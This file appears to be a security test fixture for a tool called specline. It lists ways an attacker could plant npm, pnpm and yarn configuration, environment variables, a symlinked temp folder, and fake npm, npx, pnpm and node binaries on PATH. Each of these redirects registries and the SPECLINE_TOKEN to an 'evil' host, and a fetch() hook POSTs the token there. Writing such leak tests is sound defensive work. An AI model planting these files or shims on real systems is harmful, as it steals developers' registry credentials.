import { chmodSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';

/** The folders that an attacker may have written into. */
export interface Folders {
  /** Above the workspace. */
  readonly parent: string;
  readonly workspace: string;
  readonly packed: string;
  readonly home: string;
  readonly temporary: string;
  /** First on PATH. */
  readonly bin: string;
}

/** A way to turn a token elsewhere: files that are written, and variables that are set. */
export interface Plant {
  readonly name: string;
  plant(folders: Folders, evil: string): NodeJS.ProcessEnv | void;
}

/** Configuration of npm that sends all of it to a host, with the token. */
function npmrc(evil: string): string {
  const host = evil.replace('http:', '');
  return [
    `registry=${evil}`,
    `@test:registry=${evil}`,
    `${host}:_authToken=\${SPECLINE_TOKEN}`,
    `proxy=${evil}`,
    `https-proxy=${evil}`,
    'strict-ssl=false',
    '',
  ].join('\n');
}

function write(path: string, text: string): void {
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, text);
}

function npmrcIn(name: string, folder: keyof Folders, file = '.npmrc'): Plant {
  return { name, plant: (folders, evil) => write(join(folders[folder], file), npmrc(evil)) };
}

function variables(name: string, set: (evil: string, folders: Folders) => NodeJS.ProcessEnv): Plant {
  return { name, plant: (folders, evil) => set(evil, folders) };
}

export const plants: readonly Plant[] = [
  npmrcIn('.npmrc of the user', 'home'),
  npmrcIn('.npmrc of the workspace', 'workspace'),
  npmrcIn('.npmrc above the workspace', 'parent'),
  npmrcIn('.npmrc beside the tarballs', 'packed'),
  npmrcIn('.npmrc of the temporary folder', 'temporary'),
  npmrcIn('what an older version read: user', 'temporary', 'specline-no-configuration/user'),
  npmrcIn('what an older version read: global', 'temporary', 'specline-no-configuration/global'),
  npmrcIn("pnpm's rc", 'home', '.config/pnpm/rc'),
  npmrcIn("pnpm's auth file", 'home', '.config/pnpm/auth.ini'),
  {
    name: 'a workspace of npm in the temporary folder',
    plant({ temporary }, evil) {
      write(join(temporary, 'package.json'), '{ "name": "x", "workspaces": ["*"] }');
      write(join(temporary, '.npmrc'), npmrc(evil));
    },
  },
  {
    name: 'a workspace of pnpm in the temporary folder, with a hook',
    plant({ temporary }, evil) {
      write(
        join(temporary, 'pnpm-workspace.yaml'),
        `packages: ['*']\nregistries: { default: '${evil}', '@test': '${evil}' }\n`,
      );
      write(join(temporary, '.pnpmfile.cjs'), hook(evil));
    },
  },
  {
    name: 'a link as temporary folder',
    plant({ temporary, parent }, evil) {
      const link = join(parent, 'tmp-link');
      symlinkSync(temporary, link);
      write(join(temporary, '.npmrc'), npmrc(evil));
      return { TMPDIR: link };
    },
  },
  variables('npm_config_*', (evil) => ({
    npm_config_registry: evil,
    'npm_config_@test:registry': evil,
    npm_config_proxy: evil,
    npm_config_https_proxy: evil,
  })),
  variables('NPM_CONFIG_*', (evil) => ({ NPM_CONFIG_REGISTRY: evil, NPM_CONFIG_HTTPS_PROXY: evil })),
  variables('pnpm_config_*', (evil) => ({ pnpm_config_registry: evil, PNPM_CONFIG_REGISTRY: evil })),
  variables('YARN_*', (evil) => ({ YARN_REGISTRY: evil, YARN_NPM_REGISTRY_SERVER: evil })),
  {
    name: 'npm_config_userconfig',
    plant({ parent }, evil) {
      const file = join(parent, 'planted-npmrc');
      write(file, npmrc(evil));
      return { npm_config_userconfig: file, npm_config_globalconfig: file, NPM_CONFIG_USERCONFIG: file };
    },
  },
  {
    name: 'PREFIX and PNPM_HOME',
    plant({ parent }, evil) {
      for (const file of ['etc/npmrc', '.npmrc', 'rc', 'config.yaml'])
        write(join(parent, 'prefix', file), npmrc(evil));
      const prefix = join(parent, 'prefix');
      return { PREFIX: prefix, npm_config_prefix: prefix, PNPM_HOME: prefix, XDG_CONFIG_HOME: prefix };
    },
  },
  {
    name: 'npm, npx, pnpm and node on PATH',
    plant({ bin }, evil) {
      for (const name of ['npm', 'npx', 'pnpm', 'node']) {
        const script = `#!${process.execPath}\n${hook(evil)}`;
        write(join(bin, name), script);
        chmodSync(join(bin, name), 0o755);
      }
    },
  },
];

/** A program that tells a host all variables that it sees. */
function hook(evil: string): string {
  return `fetch('${evil}hook', { method: 'POST', headers: { authorization: JSON.stringify(process.env.SPECLINE_TOKEN ?? '') } });\n`;
}
